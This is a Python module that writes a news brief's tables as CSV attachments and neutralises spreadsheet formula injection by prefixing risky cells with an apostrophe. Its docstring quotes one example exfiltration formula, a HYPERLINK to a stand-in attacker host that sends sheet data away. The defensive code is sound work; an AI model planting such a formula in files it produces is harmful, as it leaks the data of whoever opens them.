"""Each table's cells as a CSV file, exactly as the article wrote them.

The files are UTF-8 with a byte-order mark and CRLF line ends (RFC 4180): spreadsheet
programs read the mark as "this is UTF-8", so a Russian or Arabic table opens with its
letters intact, and every CSV reader takes it. Numbers keep the article's spelling
("12,400", "8.4 per cent"): a journalist sees what the brief printed, not our reading of it.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from typing import Any, Protocol

from brief.compose.model import Brief, BriefChart, BriefTable
from brief.core.text import padded

CSV_MEDIA_TYPE = "text/csv"


class Words(Protocol):
    """The brief's words (``brief.layout.catalogue.Messages``): a message by its key."""

    def text(self, key: str, **values: Any) -> str: ...


def table_description(words: Words, table: BriefTable) -> str:
    """ "Table 1: Trade by sector", or "Table 1" without a caption, in the brief's language."""
    if table.caption:
        return words.text("table_caption", number=table.number, caption=table.caption)
    return words.text("table", number=table.number)


def chart_description(words: Words, chart: BriefChart) -> str:
    """ "Figure 1: ..." for a chart, in the brief's language."""
    title = chart.title or words.text(
        "chart_title", values=", ".join(s.name for s in chart.series), category=chart.category
    )
    return words.text("figure_caption", number=chart.number, caption=title)


@dataclass(frozen=True)
class DataFile:
    """One table's data: a file name, what it holds, and its bytes."""

    element: str  # the ID of the structure element it is associated with
    name: str
    description: str
    data: bytes


def table_rows(table: BriefTable) -> list[list[str]]:
    """The table's rows as cells of text, header rows first, every row as wide as the
    widest (a CSV reader expects a rectangle)."""
    rows = [list(table.header), *(list(row) for row in table.rows)]
    width = max(len(row) for row in rows)
    return [padded(row, width) for row in rows]


def table_csv(table: BriefTable) -> bytes:
    return _csv(table_rows(table))


def _csv(rows: list[list[str]]) -> bytes:
    width = max((len(r) for r in rows), default=0)
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerows(padded([inert_cell(c) for c in r], width) for r in rows)
    return buffer.getvalue().encode("utf-8-sig")


# A plain number, which a spreadsheet reads as a number and never as a formula: "-12.5",
# "+3", "-1,234", "-8.4%", "- 3" is not one.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,\u00a0\u202f ]\d+)*(?:[.,]\d+)?\s?%?")
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(text: str) -> str:
    """*text* as a spreadsheet cell that is never evaluated: a cell starting with = + - @,
    a tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets
    (``=HYPERLINK("http://evil.example/?"&B3)`` sends the sheet's data away when the file is
    opened), so it gets a leading apostrophe, as OWASP's advice on CSV injection has it; a
    plain number ("-12.5") is left as it is."""
    if (
        text.startswith(_FORMULA_START)
        and not _PLAIN_NUMBER.fullmatch(text)
        and text.strip("-+ ")  # a dash alone ("-", "--") marks an empty cell: no formula
    ):
        return "'" + text
    return text


def data_files(brief: Brief, stem: str, words: Words) -> list[DataFile]:
    """A CSV file for each of the brief's tables, named after the PDF (*stem*) and the
    table's number, so attachments saved from several briefs do not overwrite each other;
    each described in the brief's *words* ("Table 1: ..."). A chart drawn instead of its
    table carries that table's data as ``...-figure-N.csv``."""
    files = [
        DataFile(
            element=f"table-{table.number}",
            name=data_file_name(stem, table.number),
            description=" ".join(table_description(words, table).split()),
            data=table_csv(table),
        )
        for table in brief.tables
    ]
    for chart in brief.charts:
        if chart.place == "instead-of-table":
            files.append(
                DataFile(
                    element=f"figure-{chart.number}",
                    name=f"{safe_name(stem)}-figure-{chart.number}.csv",
                    description=" ".join(chart_description(words, chart).split()),
                    data=_csv([chart.header, *chart.rows]),
                )
            )
    return files


def data_file_name(stem: str, number: int) -> str:
    return f"{safe_name(stem)}-table-{number}.csv"


def safe_name(stem: str) -> str:
    """A file name every system accepts."""
    return re.sub(r"[^\w.-]+", "-", stem, flags=re.UNICODE).strip("-.") or "brief"
